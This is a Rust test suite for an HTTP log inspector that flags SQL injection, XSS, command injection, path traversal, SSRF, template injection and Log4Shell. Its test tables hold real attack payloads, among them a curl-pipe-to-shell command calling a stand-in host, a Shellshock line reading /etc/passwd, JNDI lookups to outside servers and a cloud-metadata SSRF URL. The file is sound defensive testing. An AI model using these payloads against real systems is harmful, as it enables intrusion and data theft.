use super::*;

fn request(target: &str, ua: &str) -> LogEvent {
    crate::detect::rules::tests::req("GET", target, ua)
}

/// The value URL-encoded into one query parameter, as a browser's form would send it.
fn in_param(value: &str) -> String {
    let mut q = String::from("/search?page=1&q=");
    for b in value.bytes() {
        match b {
            b' ' => q.push('+'),
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => q.push(b as char),
            _ => q.push_str(&format!("%{b:02X}")),
        }
    }
    q.push_str("&sort=price");
    q
}

const UA: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36";

fn kinds(i: &Inspector, target: &str) -> Vec<Attack> {
    i.inspect(&request(target, UA)).into_iter().map(|f| f.attack).collect()
}

#[test]
fn attacks_in_one_parameter_are_found_with_their_kind() {
    let i = Inspector::new(|_| true);
    for (payload, kind) in [
        ("1' or '1'='1", Attack::SqlInjection),
        ("1 or 9323=9323#", Attack::SqlInjection),
        ("1;select case when 1=1 then 1 else 0 end--", Attack::SqlInjection),
        ("1 order by 1#", Attack::SqlInjection),
        ("1 union all select null,version()--", Attack::SqlInjection),
        ("1';waitfor delay '0:0:5'--", Attack::SqlInjection),
        ("<script>alert(1)</script>", Attack::Xss),
        ("<style>@import 'http://x/x.css';</style>", Attack::Xss),
        ("<object data=\"javascript:alert(1)\">", Attack::Xss),
        ("<div onscroll=alert(1)>", Attack::Xss),
        ("\" onmouseover=\"alert(1)", Attack::Xss),
        ("&lt;img src=x onerror=alert(1)&gt;", Attack::Xss),
        ("javascript:alert(document.cookie)", Attack::Xss),
        ("|/usr/bin/id|", Attack::CommandInjection),
        ("; /bin/sleep 31 ;", Attack::CommandInjection),
        ("$(curl http://x/s.sh|sh)", Attack::CommandInjection),
        ("../../../../etc/passwd", Attack::PathTraversal),
        ("..\\..\\..\\windows\\win.ini", Attack::PathTraversal),
        ("http://169.254.169.254/latest/meta-data/", Attack::Ssrf),
        ("gopher://127.0.0.1:6379/_flushall", Attack::Ssrf),
        ("{{7*7}}", Attack::TemplateInjection),
        ("${${lower:j}ndi:ldap://x/a}", Attack::Log4Shell),
    ] {
        let found = kinds(&i, &in_param(payload));
        assert!(found.contains(&kind), "{payload:?}: expected {kind:?}, found {found:?}");
    }
}

#[test]
fn encodings_servers_undo_do_not_hide_an_attack() {
    let i = Inspector::new(|_| true);
    for target in [
        "/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "/download?file=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
        "/download?file=..%5c..%5c..%5cboot.ini",
        "/static/%2e%2e/%2e%2e/etc/passwd",
        "/download?file=%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd",
    ] {
        assert_eq!(kinds(&i, target), [Attack::PathTraversal], "{target}");
    }
    assert!(kinds(&i, "/q?x=%253Cscript%253Ealert(1)%253C%252Fscript%253E").contains(&Attack::Xss));
}

#[test]
fn values_people_really_send_stay_quiet() {
    let i = Inspector::new(|_| true);
    for v in [
        "O'Brien",
        "rock & roll",
        "C++",
        "1+1=2",
        "<3",
        "i <3 rust",
        "{\"price\":{\"$lt\":100},\"tags\":[\"a\",\"b\"]}",
        "ann.o'neil+tag@example.com",
        "don't stop me now",
        "Tom & Jerry's",
        "5' 11\"",
        "100%",
        "#hashtag",
        "a-b_c.d",
        "select a desk",
        "union station",
        "drop shipping",
        "1 or 2 items",
        "x = 1",
        "https://shop.example.com/?q=desk",
        "2024-01-01T00:00:00Z",
        "[1,2,3]",
        "(555) 123-4567",
        "Smith, John",
        "<b>bold</b>",
        "a > b",
        "fish & chips",
        "find & replace",
        "hello; sleep tight",
        "rm -rf is a famous command",
        "size: s|m|l",
        "SELECT * is slow in production?",
        "what is 7*7",
        "price ${5}",
        "{{ page_title }}",
        "http://10.0.0.5/",
        "C:\\Users\\ann\\report.docx",
        "It's 6 o'clock; time to go",
        "The \"best\" (and only) option",
        "a=1&b=2",
        "l'Oréal",
        "naïve café",
        "日本語のテキスト",
        "user's guide (2nd ed.)",
        "50% off - today only!",
    ] {
        let found = i.inspect(&request(&in_param(v), UA));
        assert!(found.is_empty(), "{v:?} was flagged: {found:?}");
    }
    for ua in [
        UA,
        "ShopApp/4.2 (iOS 17.1; iPhone15,2; Scale/3.00)",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "curl/8.4.0",
        "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
        "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
    ] {
        assert!(i.inspect(&request("/api/users/46371", ua)).is_empty(), "{ua}");
    }
}

#[test]
fn header_borne_attacks_are_found_in_the_user_agent_the_referer_and_the_line() {
    let i = Inspector::new(|_| true);
    let hits = |ua: &str| i.inspect(&request("/", ua)).into_iter().map(|f| f.attack).collect::<Vec<_>>();
    assert_eq!(hits("() { :; }; /bin/bash -c 'cat /etc/passwd'"), [Attack::CommandInjection]);
    assert_eq!(hits("${jndi:ldap://198.51.100.7:1389/a}"), [Attack::Log4Shell]);
    assert!(hits("<script>alert(1)</script>").contains(&Attack::Xss));
    assert!(hits("' or 1=1-- ").contains(&Attack::SqlInjection));
    let mut e = request("/", UA);
    e.referer = Some("https://evil.example/?q=<script>alert(document.cookie)</script>".into());
    assert_eq!(i.inspect(&e).into_iter().map(|f| f.attack).collect::<Vec<_>>(), [Attack::Xss]);
    e.referer = Some("https://shop.example.com/search?q=desk&page=2".into());
    assert!(i.inspect(&e).is_empty(), "an ordinary referer is not an attack");
    e.raw.line = "GET / \"X-Api-Version: ${${::-j}ndi:rmi://x/a}\"".into();
    assert_eq!(i.inspect(&e).into_iter().map(|f| f.attack).collect::<Vec<_>>(), [Attack::Log4Shell]);
}

#[test]
fn the_evidence_is_decoded_and_names_the_parameter() {
    let i = Inspector::new(|_| true);
    let f = i.inspect(&request("/p?id=1%27%20or%20%271%27%3D%271", UA));
    assert_eq!(f.len(), 1, "{f:?}");
    assert!(
        f[0].evidence.starts_with("query parameter id: 1' or '1'='1 (libinjection fingerprint "),
        "{}",
        f[0].evidence
    );
    let f = i.inspect(&request("/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd", UA));
    assert_eq!(f[0].evidence, "query parameter file: ../../etc/passwd");
}

#[test]
fn a_disabled_check_finds_nothing_and_clean_values_are_remembered() {
    let only_sqli = Inspector::new(|name| name == "sql_injection");
    assert!(kinds(&only_sqli, &in_param("../../../../etc/passwd")).is_empty());
    assert_eq!(kinds(&only_sqli, &in_param("1' or '1'='1")), [Attack::SqlInjection]);
    let i = Inspector::new(|_| true);
    for n in 0..(2 * CLEAN_VALUES + 10) {
        assert!(i.inspect(&request(&in_param(&format!("red shoes {n}")), UA)).is_empty());
        if n % 1000 == 0 {
            assert_eq!(kinds(&i, &in_param("1' or '1'='1")), [Attack::SqlInjection], "never hidden by the memory");
        }
    }
    assert!(i.clean.borrow().len() <= CLEAN_VALUES);
}

/// The labelled parameter values of HttpParamsDataset, each in one query parameter. Measured:
/// SQLi 10,846/10,852, XSS 521/532, command injection 83/89, path traversal 26/43 (15 of the
/// misses lost their backslashes in the dataset: `c:oot.ini`) and 124/247 FuzzDB templates with a
/// literal `{file}` (the rest reach nothing: `/{file}`, `/0x2e0x2e/{file}`), 0 of 19,304 benign.
#[test]
fn the_labelled_http_parameter_corpus_is_caught_without_false_alarms() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/datasets/http-params/payload_full.csv");
    let Ok(text) = std::fs::read_to_string(path) else {
        // Licensed data kept beside the checkout, never in it.
        eprintln!("SKIPPED the_labelled_http_parameter_corpus: no {path} (HttpParamsDataset, see ../shared/datasets/README.md)");
        return;
    };
    let i = Inspector::new(|_| true);
    let mut seen: std::collections::HashMap<String, (usize, usize)> = Default::default();
    let mut benign_flagged = Vec::new();
    for row in crate::text::csv_rows(&text).into_iter().skip(1) {
        let [payload, _, class, _] = &row[..] else { panic!("a row of four fields: {row:?}") };
        let class = if class == "path-traversal" && payload.contains("{file}") { "templates" } else { class };
        let hit = !i.inspect(&request(&in_param(payload), UA)).is_empty();
        let e = seen.entry(class.to_string()).or_default();
        e.0 += 1;
        e.1 += usize::from(hit);
        if class == "norm" && hit {
            benign_flagged.push(payload.clone());
        }
    }
    let recall = |c: &str| seen[c].1 as f64 / seen[c].0 as f64;
    assert_eq!(seen["norm"].0, 19_304, "the whole corpus was read");
    assert!(benign_flagged.is_empty(), "benign values flagged: {benign_flagged:?}");
    assert!(recall("sqli") >= 0.99, "SQLi recall {}", recall("sqli"));
    assert!(recall("xss") >= 0.95, "XSS recall {}", recall("xss"));
    assert!(recall("cmdi") >= 0.9, "command injection recall {}", recall("cmdi"));
    assert!(recall("path-traversal") >= 0.6, "path traversal recall {} (templates aside)", recall("path-traversal"));
    assert!(recall("templates") >= 0.5, "path traversal templates {}", recall("templates"));
}
